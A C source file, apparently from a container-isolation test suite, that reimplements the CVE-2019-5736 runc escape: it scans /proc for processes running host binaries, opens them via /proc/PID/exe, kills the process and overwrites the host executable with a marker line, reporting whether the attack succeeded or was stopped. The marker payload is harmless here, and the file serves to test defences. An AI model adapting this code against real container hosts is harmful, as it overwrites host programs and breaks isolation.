/* SPDX-License-Identifier: LGPL-2.1-or-later */
/*
 * exes.c: CVE-2019-5736 and what is left of it. Watches for processes whose program is not of this place's own files, which is what
 * enters it, and opens that program.
 *
 *   exes read SECONDS     succeeds when it could be read
 *   exes write SECONDS    succeeds when it could be overwritten; the process is killed for that, since what executes is busy
 */
#include "attack.h"
#include <dirent.h>
#include <fcntl.h>
#include <signal.h>
#include <stdbool.h>
#include <sys/stat.h>
#include <time.h>
#include <unistd.h>

static char refusal[256]; /* "": no foreign program came by */

static double now(void) {
        struct timespec t;

        clock_gettime(CLOCK_MONOTONIC, &t);
        return (double) t.tv_sec + (double) t.tv_nsec / 1e9;
}

/* The file that the program says it is, if this place has one. */
static bool is_own(int fd, const char *link) {
        struct stat opened, named;

        return fstat(fd, &opened) == 0 && stat(link, &named) == 0 && opened.st_dev == named.st_dev &&
               opened.st_ino == named.st_ino;
}

/* A new program in the place of the old one: whoever starts it next on the host runs this. */
static bool overwrite(int fd, int pid) {
        static const char text[] = "#!/attacked\n";
        char path[64];
        int writable = -1;

        snprintf(path, sizeof(path), "/proc/self/fd/%d", fd);
        kill(pid, SIGKILL);
        for (double end = now() + 2; writable < 0 && now() < end;) {
                writable = open(path, O_WRONLY | O_CLOEXEC);
                if (writable < 0 && errno != ETXTBSY) {
                        break;
                }
        }
        if (writable < 0) {
                snprintf(refusal, sizeof(refusal), "a foreign program, for writing: %s", strerror(errno));
                return false;
        }
        return write(writable, text, sizeof(text) - 1) == (ssize_t) sizeof(text) - 1;
}

static bool is_foreign_elf(int fd) {
        char magic[4];

        return pread(fd, magic, sizeof(magic), 0) == 4 && memcmp(magic, "\177ELF", 4) == 0;
}

static bool take(int pid, bool write) {
        char path[64], link[256];
        bool taken = false;
        ssize_t n;
        int fd;

        snprintf(path, sizeof(path), "/proc/%d/exe", pid);
        n = readlink(path, link, sizeof(link) - 1);
        if (n < 0) {
                if (errno == EACCES || errno == EPERM) {
                        snprintf(refusal, sizeof(refusal), "program of a process that enters: %s",
                                 strerror(errno));
                }
                return false;
        }
        link[n] = '\0';
        fd = open(path, O_RDONLY | O_CLOEXEC);
        if (fd < 0) {
                if (errno == EACCES || errno == EPERM) {
                        snprintf(refusal, sizeof(refusal), "%.100s: %s", link, strerror(errno));
                }
                return false;
        }
        if (!is_own(fd, link) && is_foreign_elf(fd)) {
                taken = !write || overwrite(fd, pid);
                if (taken) {
                        say("%s the host's %s", write ? "overwrote" : "read", link);
                }
        }
        close(fd);
        return taken;
}

static bool take_one(bool write) {
        DIR *dir = opendir("/proc");
        struct dirent *e;
        bool taken = false;

        while (!taken && (e = readdir(dir))) {
                int pid = atoi(e->d_name);

                taken = pid > 1 && pid != getpid() && take(pid, write);
        }
        closedir(dir);
        return taken;
}

int main(int argc, char **argv) {
        const double end = now() + (argc > 2 ? atof(argv[2]) : 0);

        if (argc != 3 || (strcmp(argv[1], "read") != 0 && strcmp(argv[1], "write") != 0)) {
                fprintf(stderr, "usage: exes read|write SECONDS\n");
                return ATTACK_BROKEN;
        }
        while (now() < end) {
                if (take_one(strcmp(argv[1], "write") == 0)) {
                        return ATTACK_SUCCEEDED;
                }
        }
        if (!refusal[0]) {
                say("broken: no foreign program came by");
                return ATTACK_BROKEN;
        }
        say("%s", refusal);
        return ATTACK_STOPPED;
}
